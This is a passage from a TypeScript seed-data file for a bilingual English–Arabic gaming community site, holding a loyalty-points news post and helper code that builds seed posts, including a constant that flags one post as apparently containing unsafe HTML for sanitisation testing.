              items: ['Tournament participation', 'Daily challenges', 'Community events and watch parties'],
            },
          },
          {
            heading: 'Monthly gifts',
            paragraphs: [
              'At the end of every month the most active players on the leaderboard receive gifts, from in-game currency to gaming gear. Your position is always visible on the loyalty leaderboard page.',
            ],
          },
        ],
        outro: [
          'Points never expire while your account is active, so every tournament you join keeps counting. Keep an eye on your notifications: we announce special events with bonus points a few days in advance, and the monthly gift winners are contacted directly through the email address saved in their profile settings.',
        ],
        quote: {
          text: 'I never win tournaments, but I show up to every one of them. The monthly gift was a great surprise.',
          author: 'Dana, community member',
        },
        link: {
          before: 'Check your rank on the',
          href: 'https://menaarena.example/loyalty-leaderboard',
          text: 'loyalty leaderboard',
          after: '.',
        },
      },
    },
    ar: {
      title: 'شرح نقاط الولاء: اكسب وتقدّم واحصل على المكافآت',
      summary:
        'عشر نقاط عن كل بطولة أو فعالية أو نشاط، ولوحة صدارة عامة، وهدايا شهرية للاعبين الأكثر نشاطًا. إليك طريقة عمل برنامج الولاء.',
      body: {
        intro: [
          'نقاط الولاء هي طريقتنا لشكرك على انتمائك إلى المجتمع. وعلى عكس نقاط الخبرة، فهي غير مرتبطة بموسم: كل نقطة تكسبها تبقى في ملفك وتُحتسب في <strong>لوحة صدارة الولاء</strong>.',
        ],
        figure: {
          src: figure('loyalty-points-explained'),
          alt: 'لوحة صدارة الولاء',
          caption: 'يحصل الثلاثة الأوائل على شارات ذهبية وفضية وبرونزية.',
        },
        sections: [
          {
            heading: 'طرق الكسب',
            paragraphs: ['تحصل على 10 نقاط ولاء عن كل بطولة أو فعالية أو نشاط تشارك فيه.'],
            list: { items: ['المشاركة في البطولات', 'التحديات اليومية', 'فعاليات المجتمع وجلسات المشاهدة'] },
          },
          {
            heading: 'هدايا شهرية',
            paragraphs: [
              'في نهاية كل شهر يحصل اللاعبون الأكثر نشاطًا في لوحة الصدارة على هدايا، من عملة داخل اللعبة إلى معدات الألعاب. ترتيبك ظاهر دائمًا في صفحة لوحة صدارة الولاء.',
            ],
          },
        ],
        outro: [
          'لا تنتهي صلاحية النقاط ما دام حسابك نشطًا، لذلك تبقى كل بطولة تشارك فيها محتسبة. تابع إشعاراتك باستمرار: نعلن عن الفعاليات الخاصة ذات النقاط الإضافية قبل أيام من موعدها، ونتواصل مع الفائزين بالهدايا الشهرية مباشرة عبر البريد الإلكتروني المحفوظ في إعدادات ملفهم الشخصي.',
        ],
        quote: {
          text: 'لا أفوز بالبطولات أبدًا، لكنني أحضر كل واحدة منها. كانت الهدية الشهرية مفاجأة رائعة.',
          author: 'دانة، من أعضاء المجتمع',
        },
        link: {
          before: 'اطّلع على ترتيبك في',
          href: 'https://menaarena.example/loyalty-leaderboard',
          text: 'لوحة صدارة الولاء',
          after: '.',
        },
      },
    },
  },
];

export const SEED_POSTS: SeedPost[] = definitions.map((definition) => ({
  key: definition.key,
  id: seedId('post', definition.key),
  tags: definition.tags,
  createdDaysAgo: definition.createdDaysAgo,
  translations: (['en', 'ar'] as const).map((language) => ({
    language,
    title: definition[language].title,
    summary: definition[language].summary,
    content: articleHtml(definition[language].body),
  })),
}));

/** The post whose stored source carries a script, an event handler, a javascript: link and an iframe. */
export const UNSAFE_SEED_POST_KEY = 'fair-play-update';

export const coverPath = (post: { key: string }) => `/static/news/${post.key}.svg`;

/** Titles of the generated news images (covers and figures), by image key. */
export function newsImageTitles(): Map<string, { en: string; ar: string }> {
  const titles = new Map<string, { en: string; ar: string }>();
  for (const definition of definitions) {
    const title = { en: definition.en.title, ar: definition.ar.title };
    titles.set(definition.key, title);
    titles.set(`${definition.key}-figure`, title);
  }
  return titles;
}
